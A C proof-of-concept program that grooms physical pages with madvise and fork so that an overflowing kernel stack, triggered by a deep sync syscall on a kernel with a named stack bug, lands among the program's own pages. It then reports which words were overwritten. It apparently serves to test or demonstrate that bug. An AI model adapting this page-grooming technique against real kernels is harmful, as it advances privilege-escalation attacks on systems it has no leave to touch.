// Asks a kernel with the bug deep-call-in-sync for deep calls, each in a process of its own, and tells what
// has become of this process's memory. With unguarded stacks the call goes on below its stack. Right before
// the fork single frames are given up, for all that a process needs but its stack and more than the kernel
// keeps apart, and above them four in a row, so that the stack comes to lie among pages of this program.
//
// usage: deep_call DEPTH
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

enum { kPages = 384, kSingles = 96, kWords = 512, kStackPages = 4, kRounds = 8 };

typedef uint64_t Page[kWords];

static int is_given_up(int page, int gap)
{
    return (page >= gap && page < gap + kStackPages) || (page < 2 * kSingles && page % 2 == 1);
}

static void tell_changes(Page const* pages, int gap, long frame)
{
    for (int page = 0; page < kPages; ++page) {
        if (is_given_up(page, gap)) continue;
        int first = -1, last = -1, marks = 0, others = 0;
        for (int word = 0; word < kWords; ++word) {
            uint64_t const value = pages[page][word];
            if (value == (uint64_t)page + 1) continue;
            if (first < 0) first = word;
            last = word;
            if (value >> 32 == 0xdeeca110) {
                ++marks;
            } else {
                ++others;
            }
        }
        if (first >= 0) printf("frame %ld: page %d before the gap, bytes %d to %d, %d marks, %d other words\n", frame, gap - page, first * 8, last * 8 + 7, marks, others);
    }
}

static int play(int round, long depth)
{
    Page* const pages = mmap(NULL, kPages * sizeof *pages, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (pages == MAP_FAILED) return 1;
    for (int page = 0; page < kPages; ++page) {
        for (int word = 0; word < kWords; ++word) pages[page][word] = (uint64_t)page + 1;
    }
    // Of the four alignments that four frames can have, the one of this kernel's layout.
    int const gap = 3 * kSingles + 2 + kStackPages * round;
    int results[2];
    if (pipe(results) != 0) return 2;
    for (int page = 0; page < kPages; ++page) {
        if (is_given_up(page, gap) && madvise(pages[page], sizeof *pages, MADV_DONTNEED) != 0) return 3;
    }
    pid_t const child = fork();
    if (child == 0) {
        long const result = syscall(SYS_sync, depth);
        _exit(write(results[1], &result, sizeof result) == sizeof result ? 0 : 1);
    }
    long frame = 0;
    int status = 0;
    if (read(results[0], &frame, sizeof frame) != sizeof frame) return 4;
    if (waitpid(child, &status, 0) != child || status != 0) return 5;
    tell_changes(pages, gap, frame);
    close(results[0]);
    close(results[1]);
    return 0;
}

int main(int count, char** arguments)
{
    long const depth = count > 1 ? atol(arguments[1]) : 0;
    for (int round = 0; round < kRounds; ++round) {
        int const problem = play(round, depth);
        if (problem != 0) return problem;
    }
    printf("%d calls\n", kRounds);
    return 0;
}
